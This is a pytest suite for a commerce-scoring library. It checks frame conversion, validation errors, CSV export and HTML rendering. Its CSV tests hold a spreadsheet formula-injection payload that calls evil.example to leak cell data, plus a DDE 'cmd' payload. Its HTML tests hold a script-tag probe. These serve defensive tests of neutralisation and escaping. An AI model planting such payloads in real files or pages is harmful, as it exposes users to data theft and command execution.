"""steps.frames: results and datasets as pandas / polars / pyarrow frames, CSV, HTML."""

from __future__ import annotations

import csv
import io
import json
import math
import sys
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import HealthCheck, given, settings

import steps
from steps.cli import main
from steps.domain import InvalidDataError
from steps.domain.enums import Platform, TrafficSource
from steps.domain.fields import kind_of
from steps.domain.model import Account, Brand, Dataset, FanGroup, Stream
from steps.frames import (
    BACKENDS,
    HTML_MAX_ROWS,
    TABLES,
    card_html,
    dataset_from_frames,
    dataset_to_frames,
    neutralise,
    result_columns,
    results_html,
    results_to_frame,
    write_csv,
)
from steps.io.converter import unstructure
from steps.scoring import (
    ROW_COLUMNS,
    ComponentResult,
    IndicatorResult,
    Recommendation,
    ScoreCard,
    ScoreError,
    ScoreResults,
    SubjectKind,
    plugins,
)
from steps.testing.plugins import isolated_host
from steps.testing.strategies import datasets

MODULE_OF = {"pandas": "pandas", "polars": "polars", "arrow": "pyarrow"}
EXTRA_OF = {"pandas": "pandas", "polars": "polars", "arrow": "arrow"}


def need(backend: str) -> Any:
    return pytest.importorskip(MODULE_OF[backend])


# -- fixtures -------------------------------------------------------------------------------


def indicator(key: str, value: float | None, score: float | None, **extra: Any) -> IndicatorResult:
    fields: dict[str, Any] = {
        "key": key,
        "name": key.title(),
        "name_zh": "指标",
        "component": "reach",
        "value": value,
        "unit": "share",
        "score": score,
        "weight": 0.5,
        "contribution": 0.0 if score is None else score / 2,
        "benchmark": "target 1, floor 0",
        "benchmark_source": "assumption",
        "explanation": f"{key}: explained",
    }
    fields.update(extra)
    return IndicatorResult(**fields)


def card(subject_id: str, brand_id: str, *components: ComponentResult, **extra: Any) -> ScoreCard:
    fields: dict[str, Any] = {
        "scorer": "fake",
        "scorer_version": "1.0",
        "subject_kind": SubjectKind.STREAM,
        "subject_id": subject_id,
        "brand_id": brand_id,
        "score": 40.0,
        "confidence": 0.5,
        "components": components,
    }
    fields.update(extra)
    return ScoreCard(**fields)


def component(
    key: str, *indicators: IndicatorResult, score: float | None = 80.0
) -> ComponentResult:
    return ComponentResult(
        key=key,
        name=key.title(),
        name_zh="部分",
        score=score,
        weight=0.5,
        contribution=0.0 if score is None else score / 2,
        indicators=indicators,
    )


HAND_RESULTS = ScoreResults(
    cards=(
        card(
            "s1",
            "b1",
            component(
                "reach",
                indicator("uv", 100.0, 80.0),
                indicator("growth", -1.5, None, missing=("uv_by_source",)),
            ),
            component("empty", score=None),
        ),
        card("b1", "b1", subject_kind=SubjectKind.BRAND, score=0.0, confidence=0.0),
    )
)


@pytest.fixture(scope="module")
def scored() -> ScoreResults:
    """Every built-in scorer over the sample dataset."""
    return steps.score(steps.sample_dataset(), host=isolated_host(builtins=True))


def expected_rows(results: ScoreResults) -> int:
    return sum(
        max(1, sum(max(1, len(c.indicators)) for c in card.components)) for card in results.cards
    )


# -- results as frames ---------------------------------------------------------------------


def test_result_columns_are_the_row_columns():
    columns = result_columns()
    assert tuple(c.name for c in columns) == ROW_COLUMNS
    types = {c.name: c.type for c in columns}
    assert {n for n, t in types.items() if t == "float"} == {
        "score",
        "confidence",
        "component_score",
        "value",
        "indicator_score",
        "weight",
        "contribution",
    }
    # The card's columns are never missing but its score, where it was withheld.
    assert [c.name for c in columns if not c.nullable] == [
        "scorer",
        "scorer_version",
        "subject_kind",
        "subject_id",
        "brand_id",
        "confidence",
    ]


def as_records(frame: Any, backend: str) -> list[dict[str, Any]]:
    """Rows of a frame as dicts of plain values, NaN and null as None."""
    if backend == "pandas":
        records = frame.astype(object).to_dict("records")
    elif backend == "polars":
        records = frame.to_dicts()
    else:
        records = frame.to_pylist()

    def plain(value: Any) -> Any:
        if isinstance(value, float) and math.isnan(value):
            return None
        return value

    return [{k: plain(v) for k, v in row.items()} for row in records]


@pytest.mark.parametrize("backend", BACKENDS)
def test_results_frame_has_a_row_per_subject_and_indicator(scored, backend):
    need(backend)
    frame = results_to_frame(scored, backend)
    assert len(scored.cards) > 100
    assert len(frame) == len(scored.to_rows()) == expected_rows(scored)
    assert tuple(frame.columns if backend != "arrow" else frame.column_names) == ROW_COLUMNS
    assert as_records(frame, backend) == scored.to_rows()


@pytest.mark.parametrize("backend", BACKENDS)
def test_results_frame_values_equal_the_cards(backend):
    need(backend)
    records = as_records(results_to_frame(HAND_RESULTS, backend), backend)
    assert len(records) == 4  # uv, growth, the empty component, the card without components
    uv, growth, empty, bare = records
    first = HAND_RESULTS.cards[0]
    assert uv["score"] == first.score
    assert uv["value"] == first.indicator("uv").value
    assert uv["indicator_score"] == 80.0
    assert growth["value"] == -1.5
    assert growth["indicator_score"] is None
    assert empty["component"] == "empty"
    assert empty["component_score"] is None
    assert empty["indicator"] is None
    assert bare["subject_kind"] == "brand"
    assert bare["component"] is None
    assert all(bare[c] is None for c in ROW_COLUMNS[7:])


def test_pandas_dtypes():
    pd = need("pandas")
    frame = HAND_RESULTS.to_pandas()
    string = pd.Series(["x"]).dtype
    for column in result_columns():
        expected = "float64" if column.type == "float" else string
        assert frame[column.name].dtype == expected, column.name
    assert math.isnan(frame.loc[1, "indicator_score"])  # None → NaN, only in the frame


def test_polars_and_arrow_dtypes():
    pl = need("polars")
    pa = need("arrow")
    schema = HAND_RESULTS.to_polars().schema
    table = HAND_RESULTS.to_arrow()
    for column in result_columns():
        if column.type == "float":
            assert schema[column.name] == pl.Float64
            assert table.schema.field(column.name).type == pa.float64()
        else:
            assert schema[column.name] == pl.String
            assert table.schema.field(column.name).type == pa.string()
        assert table.schema.field(column.name).nullable is column.nullable
    assert HAND_RESULTS.to_polars()["indicator_score"].null_count() == 3


@pytest.mark.parametrize("backend", BACKENDS)
def test_empty_results_still_have_every_column(backend):
    need(backend)
    frame = results_to_frame(ScoreResults(), backend)
    assert len(frame) == 0
    assert tuple(frame.columns if backend != "arrow" else frame.column_names) == ROW_COLUMNS


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_missing_library_names_the_extra(monkeypatch, backend):
    monkeypatch.setitem(sys.modules, MODULE_OF[backend], None)
    method = {"pandas": "to_pandas", "polars": "to_polars", "arrow": "to_arrow"}[backend]
    with pytest.raises(ImportError, match=rf"pip install 'steps-commerce\[{EXTRA_OF[backend]}\]'"):
        getattr(HAND_RESULTS, method)()
    with pytest.raises(ImportError, match=rf"steps-commerce\[{EXTRA_OF[backend]}\]"):
        dataset_to_frames(Dataset(), backend)


def test_an_unknown_backend_is_refused():
    with pytest.raises(ValueError, match="unknown backend 'excel'"):
        dataset_to_frames(Dataset(), "excel")


# -- datasets as frames --------------------------------------------------------------------


def test_every_collection_of_the_model_has_a_table():
    """A new list field in the model needs a table: nothing may be silently dropped."""
    found = set()

    def walk(cls: type, owner: type, prefix: tuple[str, ...]) -> None:
        for attribute in attrs.fields(cls):
            kind = kind_of(attribute)
            assert kind is not None, attribute.name
            if kind.name == "many":
                found.add((owner, (*prefix, attribute.name)))
                if attrs.has(kind.item):
                    walk(kind.item, kind.item, ())
            elif kind.name == "nested":
                walk(kind.item, owner, (*prefix, attribute.name))

    walk(Dataset, Dataset, ())
    covered = {
        (Dataset if t.parent is None else TABLES[t.parent].entity, t.field) for t in TABLES.values()
    }
    assert found == covered


def test_every_child_row_carries_its_brand():
    assert list(TABLES) == [
        "brands",
        "accounts",
        "products",
        "streams",
        "stream_products",
        "plan_segments",
        "talent_collabs",
        "collab_products",
        "orders",
        "trust_signals",
        "short_videos",
        "paid_campaigns",
        "coverage",
    ]
    for table in TABLES.values():
        assert table.column_names[0] == "brand_id"
    assert TABLES["stream_products"].keys == ("brand_id", "stream_id")
    assert TABLES["plan_segments"].keys == ("brand_id", "stream_id")
    assert TABLES["collab_products"].column_names == ("brand_id", "collab_id", "product_id")


def test_nested_objects_and_maps_are_flattened():
    streams = TABLES["streams"].column_names
    assert "uv_by_source.paid" in streams
    assert "gmv_by_source.private" in streams
    assert {"started_at", "started_at_offset_min", "has_plan", "plan.gmv_target_fen"} <= set(
        streams
    )
    assert "products" not in streams
    accounts = TABLES["accounts"].column_names
    assert {"has_fan_group", "fan_group.members", "audience.city_tiers.tier1"} <= set(accounts)
    assert "audience.age_bands.51+" in accounts


@pytest.fixture(scope="module")
def sample() -> Dataset:
    return steps.sample_dataset()


@pytest.mark.parametrize("backend", BACKENDS)
def test_sample_round_trip(sample, backend):
    need(backend)
    frames = dataset_to_frames(sample, backend)
    assert list(frames) == list(TABLES)
    for name, frame in frames.items():
        names = frame.column_names if backend == "arrow" else list(frame.columns)
        assert tuple(names) == TABLES[name].column_names
    assert len(frames["streams"]) == sum(len(b.streams) for b in sample.brands)
    again = dataset_from_frames(frames)
    assert again == sample
    assert unstructure(again) == unstructure(sample)


def test_pandas_dtypes_of_the_tables(sample):
    pd = need("pandas")
    frames = dataset_to_frames(sample, "pandas")
    streams = frames["streams"]
    assert streams["gmv_fen"].dtype == "int64"
    assert streams["exposure"].dtype == "Int64"
    assert streams["uv_by_source.paid"].dtype == "Int64"
    assert streams["started_at"].dtype == "datetime64[us, UTC]"
    assert streams["started_at_offset_min"].dtype == "int64"
    assert streams["has_plan"].dtype == "bool"
    assert streams["plan.planned_paid_uv_share"].dtype == "float64"
    assert streams["stream_id"].dtype == pd.Series(["x"]).dtype
    assert frames["accounts"]["opened_on"].dtype == "datetime64[s]"
    assert frames["products"]["channel_exclusive"].dtype == "bool"
    first = sample.brands[0].streams[0]
    assert streams.loc[0, "started_at"] == pd.Timestamp(first.started_at)
    assert streams.loc[0, "started_at_offset_min"] == 480


def test_polars_and_arrow_types_of_the_tables(sample):
    pl = need("polars")
    pa = need("arrow")
    streams = dataset_to_frames(sample, "polars")["streams"]
    assert streams.schema["gmv_fen"] == pl.Int64
    assert streams.schema["started_at"] == pl.Datetime("us", "UTC")
    assert dataset_to_frames(sample, "polars")["accounts"].schema["opened_on"] == pl.Date
    table = dataset_to_frames(sample, "arrow")["streams"]
    assert table.schema.field("started_at").type == pa.timestamp("us", tz="UTC")
    assert table.schema.field("gmv_fen").nullable is False
    assert table.schema.field("exposure").nullable is True


@pytest.mark.parametrize("backend", ["pandas", "polars"])
@settings(max_examples=30, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(dataset=datasets())
def test_round_trip_is_lossless(backend, dataset):
    need(backend)
    again = dataset_from_frames(dataset_to_frames(dataset, backend))
    assert again == dataset
    # Equal JSON text: integers stay integers, every UTC offset is kept.
    assert json.dumps(unstructure(again)) == json.dumps(unstructure(dataset))


def brand_with(*streams: Stream, **extra: Any) -> Brand:
    return Brand(
        brand_id="b1",
        name="品牌",
        category="beauty",
        accounts=(Account(account_id="a1", platform=Platform.KUAISHOU, name="号"),),
        streams=streams,
        **extra,
    )


def stream(stream_id: str = "s1", started_at: datetime | None = None, **extra: Any) -> Stream:
    fields: dict[str, Any] = {
        "stream_id": stream_id,
        "account_id": "a1",
        "started_at": started_at or datetime(2024, 5, 1, 20, tzinfo=timezone(timedelta(hours=8))),
        "duration_seconds": 3600,
        "uv": 100,
        "watch_seconds": 9000,
        "orders": 3,
        "buyers": 2,
        "gmv_fen": 30_000,
    }
    return Stream(**{**fields, **extra})


@pytest.mark.parametrize("backend", BACKENDS)
def test_utc_offsets_and_big_money_survive(backend):
    need(backend)
    nepal = timezone(timedelta(hours=5, minutes=45))
    dataset = Dataset(
        brands=(
            brand_with(
                stream("s1", datetime(2024, 5, 1, 0, 30, 0, 123456, tzinfo=nepal)),
                stream("s2", datetime(2024, 5, 1, 23, 59, tzinfo=timezone(-timedelta(hours=12)))),
                stream("s3", gmv_fen=10**15, orders=5, uv_by_source={TrafficSource.PAID: 0}),
            ),
        )
    )
    again = dataset_from_frames(dataset_to_frames(dataset, backend))
    assert again == dataset
    for before, after in zip(dataset.brands[0].streams, again.brands[0].streams, strict=True):
        assert after.started_at.utcoffset() == before.started_at.utcoffset()
        assert after.started_at.isoformat() == before.started_at.isoformat()
    assert again.brands[0].streams[2].gmv_fen == 10**15
    assert dict(again.brands[0].streams[2].uv_by_source) == {
        TrafficSource.PAID: 0
    }  # 0 is not missing
    assert dict(again.brands[0].streams[1].uv_by_source) == {}


def test_a_nested_object_with_no_values_is_kept(sample):
    need("pandas")
    dataset = Dataset(
        brands=(
            attrs.evolve(
                brand_with(stream(plan=steps.domain.model.RunOfShow())),
                audience=steps.AudienceProfile(),
            ),
        )
    )
    frames = dataset_to_frames(dataset, "pandas")
    assert bool(frames["brands"].loc[0, "has_audience"])
    assert dataset_from_frames(frames) == dataset


# -- frames written by hand ----------------------------------------------------------------


def test_hand_written_frames_need_only_the_columns_they_use():
    pd = need("pandas")
    frames = {
        "brands": pd.DataFrame({"brand_id": ["b1"], "name": ["品牌"], "category": ["beauty"]}),
        "accounts": pd.DataFrame(
            {
                "brand_id": ["b1"],
                "account_id": ["a1"],
                "platform": ["douyin"],
                "name": ["号"],
                "fan_group.members": [10],
                "fan_group.active_members": [4],
            }
        ),
        "streams": pd.DataFrame(
            {
                "brand_id": ["b1"],
                "stream_id": ["s1"],
                "account_id": ["a1"],
                # A zone, not an offset column: the offset is the zone's at that instant.
                "started_at": pd.to_datetime(["2024-05-01 20:00"]).tz_localize("Asia/Shanghai"),
                "duration_seconds": [3600],
                "uv": [100],
                "watch_seconds": [9000],
                "orders": [3],
                "buyers": [2],
                "gmv_fen": [30_000.0],  # a whole float is an integer
                "uv_by_source.paid": [40],
            }
        ),
        "plan_segments": pd.DataFrame(
            {"brand_id": ["b1"], "stream_id": ["s1"], "name": ["开场"], "planned_seconds": [600]}
        ),
    }
    dataset = dataset_from_frames(frames)
    [brand] = dataset.brands
    assert brand.accounts[0].fan_group == FanGroup(members=10, active_members=4)
    assert brand.accounts[0].audience is None
    [only] = brand.streams
    assert only.started_at.isoformat() == "2024-05-01T20:00:00+08:00"
    assert only.gmv_fen == 30_000
    assert isinstance(only.gmv_fen, int)
    assert dict(only.uv_by_source) == {"paid": 40}
    assert only.plan is not None
    assert only.plan.segments[0].name == "开场"


def sample_frames(backend: str = "pandas") -> dict[str, Any]:
    need(backend)
    dataset = Dataset(
        brands=(
            brand_with(
                stream("s1"),
                stream("s2", products=(steps.domain.model.StreamProduct(product_id="p1"),)),
                products=(
                    steps.Product(product_id="p1", name="口红", category="beauty", price_fen=100),
                ),
                talent_collabs=(
                    steps.TalentCollab(
                        collab_id="c1",
                        talent_id="t1",
                        talent_name="达人",
                        platform=Platform.KUAISHOU,
                        talent_followers=10,
                        started_on=date(2024, 5, 1),
                        ended_on=date(2024, 5, 2),
                        streams=1,
                        gmv_fen=0,
                        commission_fen=0,
                        orders=0,
                        buyers=0,
                        product_ids=("p1",),
                    ),
                ),
            ),
        )
    )
    return dataset_to_frames(dataset, backend)


def problems_of(frames: dict[str, Any]) -> dict[str, str]:
    with pytest.raises(InvalidDataError) as caught:
        dataset_from_frames(frames)
    return {p.path: p.message for p in caught.value.problems}


def test_problems_name_the_table_row_and_column():
    frames = sample_frames()
    frames["streams"].loc[1, "gmv_fen"] = -5
    frames["streams"].loc[0, "account_id"] = "nobody"
    frames["collab_products"].loc[0, "product_id"] = "p-gone"
    problems = problems_of(frames)
    assert problems == {
        "streams[1].gmv_fen": "must be >= 0",
        "streams[0].account_id": "unknown account 'nobody'",
        "collab_products[0].product_id": "unknown product 'p-gone'",
    }


def test_problems_in_nested_tables_and_maps():
    frames = sample_frames()
    frames["streams"].loc[0, "uv_by_source.paid"] = 10**6
    frames["stream_products"].loc[0, "product_id"] = "p-unknown"
    frames["stream_products"].loc[0, "explain_count"] = -1
    problems = problems_of(frames)
    assert problems["streams[0].uv_by_source"] == "must be <= uv (100), got 1000000"
    assert problems["stream_products[0].explain_count"] == "must be >= 0"

    frames = sample_frames()
    frames["stream_products"].loc[0, "product_id"] = "p-unknown"
    assert problems_of(frames) == {"stream_products[0].product_id": "unknown product 'p-unknown'"}


@pytest.mark.parametrize("backend", BACKENDS)
def test_wrong_types_are_problems_in_every_backend(backend):
    frames = sample_frames(backend)
    if backend == "pandas":
        frames["streams"]["uv"] = frames["streams"]["uv"].astype(str)
    elif backend == "polars":
        pl = need("polars")
        frames["streams"] = frames["streams"].with_columns(pl.col("uv").cast(pl.String))
    else:
        pa = need("arrow")
        table = frames["streams"]
        index = table.column_names.index("uv")
        frames["streams"] = table.set_column(index, "uv", table.column("uv").cast(pa.string()))
    problems = problems_of(frames)
    assert problems["streams[0].uv"] == "must be an integer, got string '100'"
    assert problems["streams[1].uv"] == "must be an integer, got string '100'"


def test_orphans_unknown_and_missing_columns_and_tables():
    pd = need("pandas")
    frames = sample_frames()
    frames["stream_products"].loc[0, "stream_id"] = "s9"
    frames["accounts"].loc[0, "brand_id"] = "b9"
    problems = problems_of(frames)
    assert problems["stream_products[0].stream_id"] == (
        "unknown stream 's9' of brand 'b1' (not in streams)"
    )
    assert problems["accounts[0].brand_id"] == "unknown brand 'b9' (not in brands)"

    frames = sample_frames()
    frames["streams"] = frames["streams"].rename(columns={"gmv_fen": "gmv"}).drop(columns="uv")
    frames["stream"] = pd.DataFrame()
    problems = problems_of(frames)
    assert problems["streams.gmv"] == "unknown column (did you mean 'gmv_fen'?)"
    assert problems["streams.gmv_fen"] == "missing column"
    assert problems["streams.uv"] == "missing column"
    assert problems["stream"].startswith("unknown table (known: brands, accounts")


def test_presence_and_offsets_are_checked():
    frames = sample_frames()
    frames["streams"].loc[0, "plan.gmv_target_fen"] = 100  # has_plan is false
    frames["streams"].loc[1, "started_at_offset_min"] = 24 * 60
    frames["plan_segments"] = frames["plan_segments"].reindex([0])
    frames["plan_segments"].loc[0, ["brand_id", "stream_id", "name", "planned_seconds"]] = [
        "b1",
        "s2",
        "x",
        1,
    ]
    frames["plan_segments"]["planned_seconds"] = frames["plan_segments"]["planned_seconds"].astype(
        "Int64"
    )
    problems = problems_of(frames)
    assert problems["streams[0].plan.gmv_target_fen"] == "must be empty where has_plan is false"
    assert problems["streams[1].started_at_offset_min"].startswith("must lie strictly between")
    assert problems["plan_segments[0].stream_id"] == "streams: has_plan is false for this one"


def test_a_naive_time_is_refused():
    pd = need("pandas")
    frames = sample_frames()
    frames["streams"]["started_at"] = frames["streams"]["started_at"].dt.tz_localize(None)
    frames["streams"] = frames["streams"].drop(columns="started_at_offset_min")
    problems = problems_of(frames)
    assert problems["streams[0].started_at"].startswith("must be timezone-aware")
    assert isinstance(frames["streams"], pd.DataFrame)


def test_not_a_frame_is_a_type_error():
    with pytest.raises(TypeError, match="expected a pandas or polars DataFrame"):
        dataset_from_frames({"brands": [{"brand_id": "b1"}]})


# -- CSV -----------------------------------------------------------------------------------


EVIL_BRAND = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    for head in "=+-@\t\r":
        assert neutralise(head + "x") == "'" + head + "x"
    assert neutralise("-1.5") == "'-1.5"  # a string, not a number
    assert neutralise(-1.5) == -1.5
    assert neutralise("品牌 = 1") == "品牌 = 1"
    assert neutralise("") == ""


def test_write_csv_neutralises_strings_only():
    results = ScoreResults(
        cards=(
            card(
                "+cmd|' /C calc'!A0",
                EVIL_BRAND,
                component("reach", indicator("growth", -1.5, 0.0, unit="@SUM(1)")),
                scorer="-x",
            ),
        )
    )
    buffer = io.StringIO(newline="")
    assert write_csv(results.to_rows(), buffer) == 1
    text = buffer.getvalue()
    assert text.endswith("\r\n")
    header, row = csv.reader(io.StringIO(text, newline=""))
    assert tuple(header) == ROW_COLUMNS
    cells = dict(zip(header, row, strict=True))
    assert cells["brand_id"] == "'" + EVIL_BRAND
    assert cells["subject_id"] == "'+cmd|' /C calc'!A0"
    assert cells["scorer"] == "'-x"
    assert cells["unit"] == "'@SUM(1)"
    assert cells["value"] == "-1.5"  # a number stays a number
    assert float(cells["score"]) == 40.0
    assert cells["component_score"] == "80.0"


def test_write_csv_writes_none_as_an_empty_cell():
    buffer = io.StringIO(newline="")
    write_csv(HAND_RESULTS.to_rows(), buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))
    assert len(rows) == 4
    assert rows[1]["indicator_score"] == ""
    assert rows[3]["component"] == ""


def test_cli_score_csv(tmp_path: Path, monkeypatch, capsys):
    monkeypatch.setattr(plugins, "default_host", lambda: isolated_host(builtins=True))
    path = tmp_path / "brands.json"
    dataset = Dataset(brands=(attrs.evolve(brand_with(stream("=1+1")), brand_id=EVIL_BRAND),))
    steps.dump(dataset, path)
    assert main(["score", str(path), "--format", "csv", "--scorer", "stage"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert tuple(rows[0]) == ROW_COLUMNS
    assert len(rows) - 1 == len(
        steps.score(dataset, ["stage"], host=isolated_host(builtins=True)).to_rows()
    )
    column = {name: i for i, name in enumerate(rows[0])}
    assert {row[column["brand_id"]] for row in rows[1:]} == {"'" + EVIL_BRAND}
    assert {row[column["subject_id"]] for row in rows[1:]} == {"'=1+1"}
    # A stream with only the live-session counts: STAGE's score is withheld, an empty cell
    # beside the reason.
    assert {row[column["score"]] for row in rows[1:]} == {""}
    assert all(
        row[column["withheld"]].startswith("insufficient data: confidence") for row in rows[1:]
    )

    out_file = tmp_path / "scores.csv"
    assert (
        main(["score", str(path), "--format", "csv", "--scorer", "stage", "-o", str(out_file)]) == 0
    )
    assert out_file.read_text(encoding="utf-8").replace("\r\n", "\n") == out.replace("\r\n", "\n")


# -- HTML ----------------------------------------------------------------------------------


SCRIPT = "<script>alert(1)</script>"


def test_results_html_escapes_every_string():
    results = ScoreResults(
        cards=(card(SCRIPT, f'b"{SCRIPT}', component(SCRIPT, indicator("uv", 1.0, 50.0))),),
        errors=(
            ScoreError(
                scorer=SCRIPT,
                plugin="p",
                subject_kind=SubjectKind.BRAND,
                subject_id=SCRIPT,
                brand_id="b",
                error_type="RuntimeError",
                message=SCRIPT,
            ),
        ),
    )
    text = results._repr_html_()
    assert "<script" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "failed: RuntimeError" in text
    assert text == results_html(results)


def test_results_html_shows_the_first_rows_then_a_more_line():
    cards = tuple(card(f"s{i}", "b1", score=float(i)) for i in range(HTML_MAX_ROWS + 5))
    text = ScoreResults(cards=cards)._repr_html_()
    assert text.count("<tr>") == 1 + HTML_MAX_ROWS  # the header, then the rows
    assert "… 5 more" in text
    assert "… " not in ScoreResults(cards=cards[:3])._repr_html_()


def test_card_html_shows_components_indicators_and_explanations():
    evil = card(
        "s1",
        "b1",
        component(
            "reach",
            indicator(
                "uv", 100.0, 80.0, explanation=f"viewers {SCRIPT}", benchmark_source=f'"{SCRIPT}'
            ),
        ),
        notes={"stage": SCRIPT},
        missing=(SCRIPT,),
        recommendations=(Recommendation(text=SCRIPT, component="reach"),),
    )
    text = evil._repr_html_()
    assert text == card_html(evil)
    assert "<script" not in text
    assert "viewers &lt;script&gt;" in text
    assert "reach" in text
    assert "uv" in text
    assert 'title="&quot;&lt;script&gt;' in text


def test_html_of_real_results(scored):
    text = scored._repr_html_()
    assert f"{len(scored.cards)} cards, 0 errors" in text
    assert f"… {len(scored.cards) - HTML_MAX_ROWS} more" in text
    first = scored.cards[0]
    html = first._repr_html_()
    assert html.count("<tr") == 1 + sum(1 + len(c.indicators) for c in first.components)
    for item in first.indicators():
        assert item.explanation.replace("<", "&lt;").replace(">", "&gt;")[:40] in html


def test_dates_come_back_as_dates():
    windowed = attrs.evolve(
        brand_with(stream()), window_start=date(2024, 5, 1), window_end=date(2024, 5, 31)
    )
    dataset = Dataset(brands=(windowed,))
    for backend in BACKENDS:
        need(backend)
        again = dataset_from_frames(dataset_to_frames(dataset, backend))
        assert again.brands[0].window_end == date(2024, 5, 31)
        assert type(again.brands[0].window_end) is date


def test_coverage_keeps_not_given_apart_from_given_and_empty():
    from steps.domain import Section, SectionCoverage
    from steps.frames import _dataset_columns
    from tests.columnar.test_table import small_dataset

    base = small_dataset().brands[0]
    declared = attrs.evolve(
        base, coverage=(*base.covered(), SectionCoverage(Section.PAID_CAMPAIGNS))
    )
    no_orders = attrs.evolve(base, orders=())
    empty_orders = attrs.evolve(
        no_orders, coverage=(*no_orders.covered(), SectionCoverage(Section.ORDERS))
    )
    assert base.orders
    for brand in (base, declared, empty_orders):
        dataset = Dataset(brands=(brand,))
        assert dataset_from_frames(dataset_to_frames(dataset, "arrow")) == dataset
    columns = _dataset_columns(Dataset(brands=(base,)))
    assert columns["brands"]["has_coverage"] == [False]
    columns = _dataset_columns(Dataset(brands=(empty_orders,)))
    assert columns["brands"]["has_coverage"] == [True]
    assert "orders" in columns["coverage"]["section"]
